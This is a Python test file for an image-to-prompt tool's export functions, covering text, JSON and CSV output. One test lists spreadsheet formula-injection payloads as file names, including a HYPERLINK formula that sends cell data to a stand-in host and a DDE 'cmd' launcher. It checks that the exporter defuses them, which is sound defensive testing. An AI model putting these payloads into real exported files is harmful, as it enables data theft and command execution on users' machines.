"""Answers taken away as text, JSON and CSV, read back as their readers would."""

import csv
import io
import json
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from img2prompt.core.errors import UserError
from img2prompt.data.images import ImageError
from img2prompt.inference import export
from img2prompt.inference.prediction import PredictedWord, Prediction
from img2prompt.inference.predictor import Predictor

BROKEN = ImageError("images.cut")


def prediction_of(*words: tuple[str, float, float | None]) -> Prediction:
    rows = tuple(
        PredictedWord(word, score, confidence, (0.5, 0.25), 0, (("cat", 0.3), ("fox", -0.2)))
        for word, score, confidence in words
    )
    return Prediction("gaze", rows, np.zeros((1, 2), np.float32))


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_text_is_the_prompt_alone() -> None:
    answer = prediction_of(("dog", 0.7, 0.5), ("oil", 0.2, None))
    assert export.as_text(answer) == "dog, oil\n"


def test_json_is_the_command_lines(predictor: Predictor, make_picture) -> None:
    answer = predictor(make_picture(), words=4)
    data = json.loads(export.as_json(answer))
    assert data == {"preset": "original", "words": answer.to_dict(vectors=False)["words"]}
    assert json.loads(export.json_line("a.png", answer)) == {"file": "a.png"} | data
    assert json.loads(export.json_line("b.png", BROKEN)) == {"file": "b.png", "error": str(BROKEN)}


def test_csv_holds_a_word_a_line() -> None:
    text = export.as_csv(prediction_of(("dog", 0.71234, 0.25), ("oil", -0.2, None)))
    first, second = read_csv(text)
    assert first == {
        "rank": "1",
        "word": "dog",
        "score": "0.7123",
        "confidence": "0.2500",
        "alternatives": "cat fox",
    }
    # A negative number stays a number; a confidence that is not known is empty, not 0.
    assert (second["rank"], second["score"], second["confidence"]) == ("2", "-0.2000", "")
    assert text.endswith("\r\n") and text.count("\r\n") == 3


def test_a_set_tells_every_picture_and_every_reason() -> None:
    answer = prediction_of(("dog", 0.7, 0.5), ("oil", 0.2, 0.1))
    results = [("a, b.png", answer), ("broken.png", BROKEN), ('"c".png', answer)]
    rows = read_csv(export.set_as_csv(iter(results)))
    assert [(row["file"], row["word"]) for row in rows] == [
        ("a, b.png", "dog"),
        ("a, b.png", "oil"),
        ("broken.png", ""),
        ('"c".png', "dog"),
        ('"c".png', "oil"),
    ]
    assert rows[2]["error"] == str(BROKEN) and rows[0]["error"] == ""
    assert rows[0]["preset"] == "gaze"
    data = json.loads(export.set_as_json(iter(results)))
    assert data == [export.json_row(name, result) for name, result in results]
    assert export.set_as_text(iter(results)).splitlines() == [
        "a, b.png\tdog, oil",
        f"broken.png\t{BROKEN}",
        '"c".png\tdog, oil',
    ]
    assert json.loads(export.set_as_json([])) == []
    assert read_csv(export.counts_as_csv([("dog", 2), ("oil", 1)]))[0] == {
        "word": "dog",
        "pictures": "2",
    }


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://x/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "  =1",
        "＝1+1",
        "\n=1",
        "-",
    ],
)
def test_a_spreadsheet_runs_no_file_name(name: str) -> None:
    rows = read_csv(export.set_as_csv([(name, BROKEN)]))
    assert rows[0]["file"] == "'" + name
    # Only where a spreadsheet computes: the JSON keeps the name as it is.
    assert json.loads(export.json_line(name, BROKEN))["file"] == name


@given(st.text(st.characters(exclude_categories=())), st.text())
def test_any_name_and_word_survive_the_way(name: str, word: str) -> None:
    answer = prediction_of((word, 0.5, None))
    row = read_csv(export.set_as_csv([(name, answer)]))[0]
    assert row["file"] in (name, f"'{name}") and row["word"] in (word, f"'{word}")
    for cell in (row["file"], row["word"]):
        assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r", "\n"))
        assert not cell.lstrip(" ").startswith("-") or cell.strip("-").replace(".", "").isdigit()
    assert json.loads(export.json_line(name, answer))["file"] == name
    assert len(export.set_as_text([(name, BROKEN)]).split("\n")) == 2


def test_files_open_in_the_programs_that_read_them(tmp_path: Path) -> None:
    results = [("Schloß am Abend.png", prediction_of(("dog", 0.5, None))), ("x\udcff.png", BROKEN)]
    table = export.save(tmp_path / "set.csv", export.set_as_csv(results)).read_bytes()
    assert table.startswith(b"\xef\xbb\xbffile,preset")  # or Excel spoils the ß
    assert "Schloß" in table.decode("utf-8-sig") and b"\r\r\n" not in table
    data = export.save(tmp_path / "set.json", export.set_as_json(results)).read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    assert [row["file"] for row in json.loads(data)] == [name for name, _ in results]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["set.csv", "set.json"]


def test_a_result_may_be_any_mistake_of_a_person() -> None:
    error = UserError("ui.game_over")
    assert export.json_row(None, error) == {"error": "All rounds are played; start a new game."}
